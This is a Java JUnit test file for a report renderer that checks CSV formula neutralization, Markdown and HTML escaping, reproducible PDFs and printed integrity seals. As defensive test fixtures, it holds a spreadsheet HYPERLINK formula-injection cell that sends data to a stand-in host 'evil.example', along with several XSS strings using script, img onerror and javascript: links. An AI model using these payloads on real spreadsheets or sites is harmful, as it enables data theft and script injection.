package org.draftline.query.reports;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.datatype.jsr310.JavaTimeModule;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.commonmark.ext.gfm.tables.TablesExtension;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.draftline.api.report.ReportFormat;
import org.junit.jupiter.api.Test;

import javax.xml.parsers.DocumentBuilderFactory;
import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class ReportRendererTest {

    private static final Report REPORT = new Report("timeline", "Timeline: Rules | commas, \"quotes\" & <tags>",
            "General Assembly", Instant.parse("2017-05-01T00:00:00Z"), Instant.parse("2026-01-01T00:00:00Z"),
            List.of(new Report.Field("Stage", "Consensus"), new Report.Field("Mandate", "GA resolution *70/179*")),
            List.of(new Report.Section("Steps", List.of("No.", "Step"), List.of(
                    List.of("1", "Registered \"Rules\", with a comma"),
                    List.of("2", "Line one\nline two | piped")))));

    private final ReportRenderer renderer = new ReportRenderer(new ObjectMapper().registerModule(new JavaTimeModule()));

    @Test
    void csvCellsThatASpreadsheetWouldRunAsFormulasAreWrittenAsText() {
        Report formulas = new Report("timeline", "Timeline", "General Assembly", Instant.parse("2017-05-01T00:00:00Z"),
                Instant.parse("2026-01-01T00:00:00Z"),
                List.of(), List.of(new Report.Section("Steps", List.of("No.", "Step"), List.of(
                        List.of("1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
                        List.of("2", "+1"), List.of("3", "-1"), List.of("4", "@SUM(A1)"),
                        List.of("5", "A plain = sign inside")))));
        String csv = ReportRenderer.csv(formulas);
        assertThat(csv).contains("\"'=HYPERLINK(", "'+1", "'-1", "'@SUM(A1)", "A plain = sign inside")
                .doesNotContain(",=HYPERLINK", ",+1", ",@SUM");
    }

    @Test
    void csvNeutralizesEveryFormulaLeadAndQuotesTheCell() throws Exception {
        List<String> hostile = List.of("=HYPERLINK(\"x\")", "@SUM(1)", "-1+2", "+1", "\tTAB", "\r=1+1");
        Report formulas = new Report("timeline", "Timeline", "General Assembly", null,
                Instant.parse("2026-01-01T00:00:00Z"), List.of(), List.of(new Report.Section("Steps",
                List.of("Step"), hostile.stream().map(List::of).toList())));

        String csv = ReportRenderer.csv(formulas);
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();

        assertThat(records).extracting(record -> record.get(0))
                .containsExactlyElementsOf(hostile.stream().map(cell -> "'" + cell).toList());
        assertThat(csv).contains("\r\n\"'@SUM(1)\"\r\n", "\r\n\"'-1+2\"\r\n", "\r\n\"'=HYPERLINK(\"\"x\"\")\"\r\n");
    }

    @Test
    void csvQuotesWhatNeedsQuotingAndParsesBack() throws Exception {
        String csv = new String(renderer.render(REPORT, ReportFormat.CSV));
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertThat(records).extracting(CSVRecord::toList).containsExactly(
                List.of("1", "Registered \"Rules\", with a comma"), List.of("2", "Line one\nline two | piped"));
        assertThat(csv).startsWith("No.,Step\r\n");
    }

    @Test
    void markdownEscapesTablesAndEmphasis() {
        String markdown = new String(renderer.render(REPORT, ReportFormat.MD));
        assertThat(markdown).contains("| 2 | Line one line two \\| piped |", "- **Mandate**: GA resolution \\*70/179\\*",
                "the record as of 30 Apr 2017, 20:00 New York time (1 May 2017, 00:00 UTC), generated "
                        + "31 Dec 2025, 19:00 New York time (1 Jan 2026, 00:00 UTC)");
    }

    @Test
    void markdownOfHostileTextRendersAsTextAndNoHtml() {
        String hostile = "<img src=x onerror=alert(1)> | [click](javascript:alert(1)) `code` ~~gone~~ &amp; <b>bold</b>";
        Report report = new Report("timeline", "Timeline: " + hostile, "# Not a heading\n<script>alert(1)</script>",
                null, Instant.parse("2026-01-01T00:00:00Z"),
                List.of(new Report.Field("Mandate", "1. not a list\n\n<iframe src=x></iframe>")),
                List.of(new Report.Section("Steps", List.of("No.", "Step"), List.of(
                        List.of("1", hostile), List.of("2", "- a | b\n| c | d |"), List.of("3", ">quoted")))));
        String markdown = new String(renderer.render(report, ReportFormat.MD));
        var extensions = List.of(TablesExtension.create());
        String rendered = HtmlRenderer.builder().extensions(extensions).build()
                .render(Parser.builder().extensions(extensions).build().parse(markdown));

        assertThat(rendered).doesNotContain("<img", "<script", "<iframe", "<b>", "<a ", "<code>", "<del>", "<ol>",
                "<blockquote>").contains("&lt;img src=x onerror=alert(1)&gt;", "&amp;amp;",
                "&lt;script&gt;alert(1)&lt;/script&gt;");
        assertThat(rendered.split("<h1>", -1)).hasSize(2);
        assertThat(rendered.split("<table>", -1)).hasSize(2);
        assertThat(rendered.split("<tr>", -1)).as("a header row and three rows, each cell kept whole").hasSize(5);
        assertThat(rendered).contains("<td>- a | b | c | d |</td>", "<td>&gt;quoted</td>");
    }

    @Test
    void htmlIsWellFormedAndEscaped() throws Exception {
        byte[] html = renderer.render(REPORT, ReportFormat.HTML);
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/nonvalidating/load-external-dtd", false);
        assertThat(factory.newDocumentBuilder().parse(new ByteArrayInputStream(html)).getDocumentElement().getTagName())
                .isEqualTo("html");
        assertThat(new String(html)).contains("&lt;tags&gt;", "<th scope=\"col\">Step</th>");
    }

    @Test
    void thePdfReadsBackAndIsTheSameEachTime() throws Exception {
        byte[] pdf = renderer.render(REPORT, ReportFormat.PDF);
        Thread.sleep(1100); // across a tick of the clock's seconds, which PDF metadata would otherwise record
        assertThat(renderer.render(REPORT, ReportFormat.PDF)).isEqualTo(pdf);
        try (PDDocument document = Loader.loadPDF(pdf)) {
            assertThat(new PDFTextStripper().getText(document)).contains("Registered \"Rules\", with a comma",
                    "Page 1 of 1");
            assertThat(document.getDocumentInformation().getCreationDate().toInstant())
                    .isEqualTo(Instant.parse("2026-01-01T00:00:00Z"));
        }
    }

    private static final String HEAD = "sha256:" + "ab".repeat(32);
    private static final String SIGNATURE = "ed25519:" + "A".repeat(86) + "==";
    private static final Report SEALED = REPORT.withIntegrity(List.of(new Report.Seal("doc-1", true, 12, HEAD,
            "2026-11-30T20:00:00.123Z", "kid_of-the-key", SIGNATURE, null)));

    @Test
    void everyFormatPrintsTheHeadAndItsSignature() throws Exception {
        for (ReportFormat format : List.of(ReportFormat.JSON, ReportFormat.CSV, ReportFormat.MD, ReportFormat.HTML)) {
            assertThat(new String(renderer.render(SEALED, format))).as(format.name()).contains(HEAD, SIGNATURE);
        }
        try (PDDocument document = Loader.loadPDF(renderer.render(SEALED, ReportFormat.PDF))) {
            assertThat(new PDFTextStripper().getText(document).replaceAll("\\s", "")).contains(HEAD, SIGNATURE,
                    "doc-1:12events");
        }
    }

    @Test
    void theCsvSealClosesTheFileAsCommentsThatAReaderSkips() throws Exception {
        String csv = new String(renderer.render(SEALED, ReportFormat.CSV));
        List<CSVRecord> records = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true)
                .setCommentMarker('#').get().parse(new StringReader(csv)).getRecords();

        assertThat(csv).startsWith("No.,Step\r\n").endsWith("# Integrity: doc-1: 12 events, head " + HEAD
                + ", signed 2026-11-30T20:00:00.123Z by key kid_of-the-key: " + SIGNATURE + "\r\n");
        assertThat(records).extracting(CSVRecord::toList).containsExactly(
                List.of("1", "Registered \"Rules\", with a comma"), List.of("2", "Line one\nline two | piped"));
    }

    @Test
    void aRecordThatFailsItsCheckIsPrintedAsSuch() {
        Report broken = REPORT.withIntegrity(List.of(new Report.Seal("doc-1", false, 12, HEAD, null, null, null,
                "NOT VERIFIED, broken at sequence 3 (EDITED): the event at sequence 3 changed")));

        assertThat(new String(renderer.render(broken, ReportFormat.MD)))
                .contains("## Integrity\n\n- doc-1: NOT VERIFIED, broken at sequence 3 (EDITED)");
    }

    @Test
    void jsonCarriesTheWholeReport() throws Exception {
        var json = new ObjectMapper().readTree(renderer.render(REPORT, ReportFormat.JSON));
        assertThat(json.at("/sections/0/rows/1/1").asText()).isEqualTo("Line one\nline two | piped");
        assertThat(json.get("generatedAt").asText()).isEqualTo("2026-01-01T00:00:00Z");
    }
}
